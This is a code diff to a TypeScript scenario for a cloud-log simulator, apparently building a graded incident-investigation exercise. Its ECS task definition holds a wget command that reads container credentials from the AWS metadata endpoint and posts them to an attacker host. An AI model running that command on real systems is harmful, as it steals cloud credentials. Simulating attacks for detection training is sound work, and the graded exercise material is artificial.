@@ -14,7 +14,6 @@
  */
 import { defineScenario, type CallOptions, type JsonObject, type Principal } from 'trailsim';
 
-const ATTACKER_IP = '198.51.100.118';
 const CLI = (command: string) => `aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22 prompt/off command/${command}`;
 
 export default defineScenario({
@@ -24,6 +23,7 @@ export default defineScenario({
   start: '2026-03-27T06:00:00Z',
   targets: ['b94bf91e-c2bf-4047-9c43-c6810f43baad'],
   run({ sim, log, answer }) {
+    const ATTACKER_IP = sim.attackerIp('attacker');
     const acct = sim.addAccount({ name: 'prod', alias: 'acme-prod', regions: ['us-east-1'] });
     sim.addTraffic({ rate: '120/h' });
     const ci = acct.iamUser('jenkins-deployer');
@@ -48,7 +48,7 @@ export default defineScenario({
         cpu: 256,
         memory: 512,
         essential: true,
-        command: ['/bin/sh', '-c', 'wget -qO- 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | wget -qO- --post-data="$(cat)" https://203.0.113.250/c'],
+        command: ['/bin/sh', '-c', `wget -qO- 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | wget -qO- --post-data="$(cat)" https://${sim.attackerIp('c2')}/c`],
       }],
     });
     const revision = (registered.responseElements?.taskDefinition as { revision?: number } | undefined)?.revision ?? 1;
